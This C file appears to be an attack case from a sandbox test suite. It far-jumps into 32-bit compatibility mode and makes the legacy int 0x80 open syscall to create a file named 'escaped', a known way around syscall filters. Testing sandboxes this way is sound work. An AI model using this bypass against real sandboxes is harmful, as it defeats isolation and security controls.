/* A far jump into 32-bit code (selector 0x23), which then calls the 32-bit open. */
#include "attack.h"
const char path[] = "escaped"; /* global: the 32-bit code names it */
extern char compat_code[];
__asm__(".text\n"
	".code32\n"
	"compat_code:\n"
	"	mov $5, %eax\n"
	"	mov $path, %ebx\n"
	"	mov $0101, %ecx\n"
	"	mov $0644, %edx\n"
	"	int $0x80\n"
	"	ud2\n"
	".code64\n");
int main(void)
{
	struct { unsigned offset; unsigned short selector; } __attribute__((packed)) target = {
		(unsigned)(unsigned long)compat_code, 0x23 };
	__asm__ volatile("ljmpl *%0" : : "m"(target));
	return escaped();
}
